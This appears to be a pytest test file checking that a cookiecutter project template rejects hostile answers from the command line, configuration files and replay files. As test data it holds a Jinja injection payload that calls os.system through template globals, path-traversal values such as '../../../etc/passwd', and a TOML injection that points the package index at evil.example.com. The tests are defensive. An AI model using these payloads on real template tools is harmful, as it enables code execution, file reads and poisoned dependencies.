"""Answers are checked wherever they come from: the command line, a configuration file or a replay file."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import run_cookiecutter_here, use_cookiecutter_settings_of
from tests.generation.conftest import contents

PYTHON = "cycler.__init__.__globals__.os.system('touch pwned')"
OTHER_SYNTAX = {"variable_start_string": "[[", "variable_end_string": "]]"}
HIDDEN_SYNTAX = {"line_statement_prefix": "my"}  # a name that begins like this would be code
ESCAPES = {"__package": "../../../x"}
COMMAND_LINE = {
    "a package outside": ESCAPES,
    "a description that ends a string": {
        "__description": '"\n[tool.uv]\nindex-url = "https://evil.example.com"'
    },
    "a condition that names a file": {"__edges": "../../../x"},
    "line ends that Python refuses": {"_new_lines": "x"},
    "private packages that no rule has seen": {"__private_packages": 'a"]\nevil = ["b'},
}
CONFIGURATION = {
    "other delimiters": {"_jinja2_env_vars": OTHER_SYNTAX, "project": f"[[ {PYTHON} ]]"},
    "statements in a line": {"_jinja2_env_vars": HIDDEN_SYNTAX},
    "no extension": {"_extensions": [], "project": "../escape", "__package": "x"},
    "a file that is copied": {"_copy_without_render": []},
    "a package outside": ESCAPES,
}
REPLAY = {
    "a project outside": {"project": "../escape"},
    "a project that is a list": {"project": ["../escape"]},
    "no extension": {"_extensions": [], "project": "../escape"},
    "another extension": {"_extensions": ["jinja2.ext.do"], "project": "../escape"},
    "other delimiters": {"_jinja2_env_vars": OTHER_SYNTAX, "project": f"[[ {PYTHON} ]]"},
    "Jinja": {"project": f"{{{{ {PYTHON} }}}}"},
    "a choice that is none": {"license": "../../../etc/passwd"},
    "a yes that is none": {"github_actions": "${{ github.token }}"},
    "everything copied": {"_copy_without_render": ["*"]},
    "a package outside": ESCAPES,
}


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder in which the command is typed; what cookiecutter keeps lies elsewhere."""
    use_cookiecutter_settings_of(tmp_path, monkeypatch)
    folder = tmp_path / "around" / "parent" / "here"
    folder.mkdir(parents=True)
    return folder


@pytest.fixture(scope="module")
def first(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a good project, and with the replay file that cookiecutter kept of it in `replay`."""
    folder = tmp_path_factory.mktemp("first")
    with pytest.MonkeyPatch.context() as patch:
        use_cookiecutter_settings_of(folder, patch)
        assert run_cookiecutter_here(folder, "--no-input", "notebook=yes").returncode == 0
    return folder


@pytest.mark.parametrize("answers", COMMAND_LINE.values(), ids=COMMAND_LINE)
def test_a_hidden_answer_of_the_command_line_is_refused_and_leaves_nothing(here, answers):
    done = run_cookiecutter_here(here, "--no-input", *(f"{name}={value}" for name, value in answers.items()))

    assert_refused(done, here)
    assert len(done.stdout.splitlines()) == 1
    assert next(iter(answers)) in done.stdout


@pytest.mark.parametrize("answers", CONFIGURATION.values(), ids=CONFIGURATION)
def test_a_hostile_configuration_file_is_refused_and_leaves_nothing(here, tmp_path, monkeypatch, answers):
    settings = {"replay_dir": str(tmp_path / "replay"), "default_context": answers}
    (tmp_path / "hostile.yaml").write_text(json.dumps(settings))

    monkeypatch.setenv("COOKIECUTTER_CONFIG", f"{tmp_path}/hostile.yaml")
    done = run_cookiecutter_here(here, "--no-input")

    assert_refused(done, here)


@pytest.mark.parametrize("answers", REPLAY.values(), ids=REPLAY)
def test_a_hostile_replay_file_is_refused_and_leaves_nothing(here, first, answers):
    done = replayed(here, first, answers)

    assert_refused(done, here)


def test_a_good_replay_file_gives_the_same_project(here, first):
    done = replayed(here, first, {})

    assert done.returncode == 0, done.stdout + done.stderr
    before, after = (contents(folder) for folder in (first / "my-project", here / "my-project"))
    # the number of the folder, which docker/write-env.sh writes
    before.pop(".env", None), after.pop(".env", None)
    assert before == after


def replayed(here: Path, first: Path, answers: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    """Replay the answers of the first project in `here`, with others among them."""
    [kept] = (first / "replay").iterdir()
    replay = json.loads(kept.read_text())
    replay["cookiecutter"].update(answers)
    spoiled = here.parents[2] / "spoiled.json"
    spoiled.write_text(json.dumps(replay))
    return run_cookiecutter_here(here, f"--replay-file={spoiled}")


def assert_refused(done: subprocess.CompletedProcess[str], here: Path) -> None:
    """Fail unless the command failed, and there is nothing around the folder in which it was typed."""
    assert done.returncode == 1, done.stdout + done.stderr
    assert set(contents(here.parent.parent)) == {"parent", "parent/here"}
